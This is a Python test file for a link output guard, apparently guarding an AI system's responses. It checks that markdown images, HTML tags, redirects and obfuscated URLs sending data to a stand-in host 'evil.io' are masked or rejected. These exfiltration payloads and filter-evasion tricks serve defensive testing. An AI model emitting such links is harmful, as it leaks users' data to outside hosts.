"""Links and images that carry data to foreign hosts do not leave."""

from collections.abc import Sequence

import pytest

from arc_core import OutputGuard, RejectionCategory
from arc_core.testing.conformance.output_guard import OutputGuardConformance
from arc_plugins.output_guards.leak_detection.links import LinkOutputGuard
from arc_plugins.output_guards.leak_detection.settings import LeakMode, OutputSettings
from tests.arc_plugins.output_guards.streaming import RejectedError, mask

MASK = OutputSettings(links=LeakMode.MASK, allowed_hosts=("docs.corp.io", "*.trusted.dev"))
DATA = "aB3dE6gH9jK2mN5pQ8sT1vW4" * 4
LEAKS = (
    (f"![a](https://evil.io/?q={DATA}) more", "[link] more"),
    (f"[a](https://evil.io/?q={DATA}) more", "[a]([link]) more"),
    (f"See https://evil.io/{DATA}, please.", "See [link], please."),
    (f"<img alt='>' src='//evil.io/{DATA}'> b", "[link] b"),
    (f'<a href="https://evil.io/{DATA[:40]}\n{DATA[40:]}">a</a>', '<a href="[link]">a</a>'),
    (f"https://trusted.dev.evil.io/{DATA}", "[link]"),
    (f"https://docs.corp.io@evil.io/{DATA}", "[link]"),
    (f"[1]: https://evil.io/{DATA}", "[1]: [link]"),
    (f"www.evil.io/{DATA}", "[link]"),
    (f"https://evil%2Eio/{DATA}", "[link]"),
    ("https://bob:pw@evil.io/ a", "[link] a"),
    ("![x](https://evil.io/log?name=Ann%20Lee) b", "[link] b"),
    ("![x](https://evil.io/log?q=SGVsbG8gd29ybGQ) b", "[link] b"),
    ('<img src="https://evil.io/x.png?d=secret">', "[link]"),
    (f"![x][1]\n\n[1]: //evil.io/?d={DATA}", "![x][1]\n\n[1]: [link]"),
    (f'<meta http-equiv="refresh" content="0;url=https://evil.io/?d={DATA}">', "[link]"),
    ("https://evil.io/track?email=ann@shop.io b", "[link] b"),
)
HARMLESS = (
    "https://docs.python.org/3/library/re.html#re.compile",
    "https://en.wikipedia.org/wiki/Foo_(bar)",
    "https://ko.wikipedia.org/wiki/%ED%95%9C%EA%B5%AD",
    "https://github.com/o/r/commit/3f786850e387550fdab836ed7e6dc881de23001b",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://shop.io/a?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale",
    "![badge](https://img.shields.io/badge/build-passing-green?style=flat-square)",
    "![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8)",
    "![a](https://cdn.shop.io/mug.png?w=400&h=300&fit=crop&auto=format&q=80#mug)",
    "![ci](https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main&event=push)",
    '<link href="https://fonts.shop.io/css2?family=Inter:wght@400&display=swap" rel="stylesheet">',
    f"https://docs.corp.io/?q={DATA}",
    f"![a](https://a.b.trusted.dev:8443/{DATA})",
    "a // b, C:\\\\Users\\\\ann, s3://bucket/key",
)


class TestConformance(OutputGuardConformance):
    """What every output guard must do."""

    answers: Sequence[str] = (
        f"![a](https://evil.io/?q={DATA}) and more",
        f"<a href='//evil.io/{DATA}'>x</a>",
    )

    def make_guard(self) -> OutputGuard:
        """A guard that masks."""
        return LinkOutputGuard(settings=MASK)


@pytest.mark.parametrize(("text", "masked"), LEAKS)
async def test_a_leak_is_masked(text: str, masked: str) -> None:
    """What is around it leaves."""
    assert await mask(LinkOutputGuard(settings=MASK), text) == masked


@pytest.mark.parametrize("text", HARMLESS)
async def test_what_only_looks_like_a_leak_leaves(text: str) -> None:
    """As it is."""
    assert await mask(LinkOutputGuard(settings=MASK), text) == text


async def test_a_leak_is_rejected() -> None:
    """The category says that it was sensitive, and the reason quotes nothing."""
    settings = OutputSettings(links=LeakMode.REJECT)
    text = LEAKS[0][0]

    with pytest.raises(RejectedError) as caught:
        await mask(LinkOutputGuard(settings=settings), text)

    assert caught.value.rejection.category is RejectionCategory.SENSITIVE_DATA
    assert text[-8:] not in caught.value.rejection.reason
